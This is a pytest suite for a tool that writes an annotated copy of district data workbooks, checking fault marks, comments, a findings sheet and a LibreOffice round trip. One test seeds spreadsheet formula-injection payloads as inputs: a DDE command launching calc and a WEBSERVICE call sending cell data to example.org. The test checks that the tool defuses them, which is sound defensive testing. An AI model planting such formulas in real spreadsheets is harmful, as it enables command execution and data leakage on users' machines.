from __future__ import annotations

import shutil
import subprocess
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from geodata import annotated
from geodata.annotated import write_marked_copy
from geodata.faults import Fault
from geodata.tables import read_workbook
from planner.artefacts import files
from planner.text import Text
from tests.geodata.sample_workbook import Rows, small, workbook
from tests.malformed.generate import csv_folder

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
COLOURS = {"fault": "00FFC7CE", "warning": "00FFEB9C", "repair": "00DDEBF7"}


def spoilt() -> Rows:
    """Three faults, a warning and two repairs, each at a cell of its own."""
    rows = small()
    rows["企业"][1][3], rows["企业"][2][1], rows["企业"][2][5] = "东经", "二\u3000厂", "=1+1"
    rows["干部"][2][3], rows["干部"][1][1] = "厅", "甲\ue000"
    rows["居委会"][1][0] = "Ｒ１"
    rows["回避"] = [["干部", "对象编号"], ["C1", "E99"]]
    return rows


def marks(path: Path) -> dict[tuple[str, str], str]:
    """The comments of all cells but those of the sheet of findings."""
    book = openpyxl.load_workbook(path)
    return {(sheet.title, cell.coordinate): cell.comment.text for sheet in book if sheet.title not in {"检查结果", "findings"}
            for row in sheet.iter_rows() for cell in row if cell.comment is not None}


def cells_of(faults: tuple[Fault, ...]) -> set[tuple[str, str]]:
    return {(fault.sheet, fault.cell) for fault in faults}


def test_every_fault_is_marked_at_its_cell(tmp_path: Path) -> None:
    source = workbook(tmp_path, spoilt())
    before = source.read_bytes()
    _, faults = read_workbook(source)
    assert sorted(fault.severity for fault in faults) == ["fault"] * 3 + ["repair"] * 2 + ["warning"]
    path, marked = write_marked_copy(source, tmp_path / "out", faults)
    assert path == tmp_path / "out" / "district-faults.xlsx"
    assert (marked.cells, marked.without_cell, marked.left_out) == (6, 0, 0)
    assert set(marks(path)) == cells_of(faults)
    book = openpyxl.load_workbook(path)
    for fault in faults:
        cell = book[fault.sheet][fault.cell]
        assert cell.fill.fgColor.rgb == COLOURS[fault.severity]
        assert fault.why.zh in cell.comment.text
        assert fault.remedy.zh in cell.comment.text
    assert source.read_bytes() == before


def test_the_list_of_findings(tmp_path: Path) -> None:
    source = workbook(tmp_path, spoilt())
    _, faults = read_workbook(source)
    faults = (*faults, Fault("missing-setting", "policy.toml", Text("缺", "missing"), Text("补", "add"), value="=1+1"))
    path, marked = write_marked_copy(source, tmp_path, faults, "en")
    assert marked.without_cell == 1
    sheet = openpyxl.load_workbook(path)["findings"]
    assert sheet.parent.sheetnames[0] == "findings"
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows[0] == ("kind", "sheet", "cell", "column", "content", "what is wrong", "what to do", "code")
    assert [row[0] for row in rows[1:]] == ["fault"] * 4 + ["please check"] + ["mended"] * 2
    assert {row[7] for row in rows[1:]} == {fault.code for fault in faults}
    assert {cell.data_type for row in sheet.iter_rows(min_row=3) for cell in row if cell.value is not None} == {"s"}
    links = {cell.hyperlink.location or cell.hyperlink.target for row in sheet.iter_rows(min_row=3) for cell in row if cell.hyperlink}
    assert "'企业'!D2" in {link.lstrip("#") for link in links}


def test_formulas_stay_and_those_that_reach_out_become_text(tmp_path: Path) -> None:
    source = workbook(tmp_path, small())
    book = openpyxl.load_workbook(source)
    reaching = {"R1": "=cmd|' /C calc'!A0", "R2": '=WEBSERVICE("http://example.org/"&A1)', "R3": "=[other.xlsx]Sheet1!A1"}
    for cell, formula in {**reaching, "S1": "=SUM(G2:G3)"}.items():
        book["企业"][cell] = formula
    book["企业"]["T1"].hyperlink = "http://example.org"
    book.save(source)
    path, _ = write_marked_copy(source, tmp_path / "out", read_workbook(source)[1])
    sheet = openpyxl.load_workbook(path)["企业"]
    assert {cell: (sheet[cell].value, sheet[cell].data_type) for cell in reaching} == {
        cell: (formula, "s") for cell, formula in reaching.items()}
    assert (sheet["S1"].value, sheet["S1"].data_type) == ("=SUM(G2:G3)", "f")
    assert sheet["T1"].hyperlink is None
    notes = [row[0] for row in openpyxl.load_workbook(path)["检查结果"].iter_rows(max_row=2, values_only=True)]
    assert any("有 3 个公式" in note for note in notes)


def test_looks_merges_comments_and_rules_of_the_user_stay(tmp_path: Path) -> None:
    source = workbook(tmp_path, spoilt())
    book = openpyxl.load_workbook(source)
    sheet = book["企业"]
    sheet.merge_cells("C2:C3")
    sheet["D2"].comment = openpyxl.comments.Comment("我的批注", "某人")
    sheet.freeze_panes, sheet.column_dimensions["B"].width = "C2", 41
    sheet["A1"].font = openpyxl.styles.Font(bold=True)
    book.save(source)
    path, _ = write_marked_copy(source, tmp_path / "out", read_workbook(source)[1])
    copy = openpyxl.load_workbook(path)["企业"]
    assert copy["D2"].comment.text.endswith("我的批注")
    assert "不是经纬度" in copy["D2"].comment.text
    assert "合并单元格" in copy["C2"].comment.text
    assert (copy.freeze_panes, copy.column_dimensions["B"].width, copy["A1"].font.b) == ("C2", 41, True)


def test_marks_of_an_earlier_copy_go_when_it_is_checked_again(tmp_path: Path) -> None:
    source = workbook(tmp_path, spoilt())
    first, _ = write_marked_copy(source, tmp_path / "out", read_workbook(source)[1])
    book = openpyxl.load_workbook(first)
    book["企业"]["D2"] = 121.52
    book.save(first)
    _, faults = read_workbook(first)
    assert "unread-sheet" not in {fault.code for fault in faults}
    second, _ = write_marked_copy(first, tmp_path / "out", faults)
    assert set(marks(second)) == cells_of(faults)
    assert ("企业", "D2") not in marks(second)
    assert openpyxl.load_workbook(second)["企业"]["D2"].fill.fgColor.rgb == "00000000"
    assert openpyxl.load_workbook(second).sheetnames.count("检查结果") == 1


def test_the_same_bytes_each_time(tmp_path: Path) -> None:
    source = workbook(tmp_path, spoilt())
    _, faults = read_workbook(source)
    one, _ = write_marked_copy(source, tmp_path / "a", faults)
    two, _ = write_marked_copy(source, tmp_path / "b", faults)
    assert one.read_bytes() == two.read_bytes()


@pytest.mark.parametrize("kind", ["csv", "large"])
def test_without_looks_where_there_are_none_or_too_many_cells(kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rows = {**spoilt(), "请假": [["干部", "开始日期", "结束日期"], ["C1", date(2027, 3, 1), "三月"]]}
    if kind == "large":
        monkeypatch.setattr(annotated, "_MOST_CELLS_LOADED", 10)
    source = workbook(tmp_path, rows) if kind == "large" else csv_folder(tmp_path, rows, "utf-8")
    _, faults = read_workbook(source)
    path, marked = write_marked_copy(source, tmp_path / "out", faults)
    assert marked.cells == len(faults) == 7
    assert set(marks(path)) == cells_of(faults)
    book = openpyxl.load_workbook(path)
    assert book["企业"]["F3"].value == "=1+1"
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert book["请假"]["B2"].value == "2027-03-01"
    assert book["企业"]["D2"].fill.fgColor.rgb == "FFFFC7CE"


def test_faults_come_first_where_there_are_too_many(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(annotated, "MOST_MARKS", 4)
    source = workbook(tmp_path, spoilt())
    _, faults = read_workbook(source)
    path, marked = write_marked_copy(source, tmp_path / "out", faults)
    assert (marked.cells, marked.left_out) == (4, 2)
    assert set(marks(path)) == cells_of(tuple(one for one in faults if one.severity != "repair"))
    assert len(list(openpyxl.load_workbook(path)["检查结果"].iter_rows(min_row=3))) == 6


def test_a_copy_that_is_open_elsewhere_gets_a_number(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source, write = workbook(tmp_path, spoilt()), files.write_whole
    (tmp_path / "district-faults.xlsx").write_bytes(b"open")

    def refuse(path: Path, fill: object) -> None:
        if path.name == "district-faults.xlsx":
            raise PermissionError(13, "open", str(path))
        write(path, fill)  # type: ignore[arg-type]

    monkeypatch.setattr(files, "write_whole", refuse)
    path, _ = write_marked_copy(source, tmp_path, read_workbook(source)[1])
    assert path.name == "district-faults-2.xlsx"
    assert path.exists()


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize("kind", ["own", "csv"])
def test_libreoffice_opens_it_with_every_mark(kind: str, tmp_path: Path) -> None:
    source = workbook(tmp_path, spoilt()) if kind == "own" else csv_folder(tmp_path, spoilt(), "utf-8")
    _, faults = read_workbook(source)
    path, _ = write_marked_copy(source, tmp_path / "out", faults)
    subprocess.run([str(OFFICE), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", "ods:calc8",
                    "--outdir", str(tmp_path / "ods"), str(path)], check=True, capture_output=True, timeout=180)
    subprocess.run([str(OFFICE), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", "xlsx",
                    "--outdir", str(tmp_path / "back"), str(tmp_path / "ods" / f"{path.stem}.ods")], check=True, capture_output=True,
                   timeout=180)
    assert set(marks(tmp_path / "back" / path.name)) == cells_of(faults)
